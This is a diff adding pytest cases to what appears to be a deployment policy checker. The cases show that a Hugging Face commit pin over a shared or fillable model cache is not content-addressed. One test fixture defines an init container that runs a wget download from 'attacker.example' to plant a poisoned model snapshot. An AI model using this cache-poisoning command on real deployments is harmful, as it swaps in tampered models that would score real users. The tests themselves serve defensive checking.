@@ -350,3 +350,51 @@ def test_the_digest_through_a_variable_and_the_entry_point_is_still_read(
     )
     obj = deployment(evidence(digest), [vllm(ATTESTED_URI)], [command])
     assert decide(engine, obj) == (True, set())
+
+
+# -- attack: a pre-filled Hugging Face cache or a local directory of the same name --------
+# `--revision <commit>` pins the download, but the client trusts its cache (and vLLM a
+# local directory named like the repo) without hashing it: a volume that another container
+# or a previous pod can fill makes the commit pin meaningless.
+
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+
+
+def hf_deployment(digest: str, volume: dict[str, Any], poison: bool) -> dict[str, Any]:
+    uri = f"hf://org/credit-scorer@{COMMIT}"
+    server = {
+        "name": "vllm",
+        "image": "vllm/vllm-openai:v0.6.3",
+        "args": ["--model", "org/credit-scorer", "--revision", COMMIT],
+        "volumeMounts": [{"name": "cache", "mountPath": "/root/.cache/huggingface"}],
+    }
+    fill = {
+        "name": "fill-cache",
+        "image": "busybox:1.36",
+        "command": ["sh", "-c", "wget -P /c/hub http://attacker.example/snapshot.tar"],
+        "volumeMounts": [{"name": "cache", "mountPath": "/c"}],
+    }
+    obj = deployment(evidence(digest, uri), [server], [fill] if poison else None)
+    obj["spec"]["template"]["spec"]["volumes"] = [{"name": "cache", **volume}]
+    return obj
+
+
+@pytest.mark.parametrize(
+    ("volume", "poison"),
+    [
+        ({"emptyDir": {}}, True),
+        ({"persistentVolumeClaim": {"claimName": "hf-cache"}}, False),
+        ({"hostPath": {"path": "/var/cache/hf"}}, False),
+    ],
+    ids=["emptydir-filled-by-init", "pvc", "hostpath"],
+)
+def test_a_commit_pin_over_a_fillable_cache_is_not_content_addressed(
+    engine: Any, digest: str, volume: dict[str, Any], poison: bool
+) -> None:
+    allowed, controls = decide(engine, hf_deployment(digest, volume, poison))
+    assert not allowed and "SC-POD-START-VERIFY" in controls
+
+
+def test_a_commit_pin_over_a_private_cache_is_content_addressed(engine: Any, digest: str) -> None:
+    obj = hf_deployment(digest, {"emptyDir": {}}, poison=False)
+    assert decide(engine, obj) == (True, set())
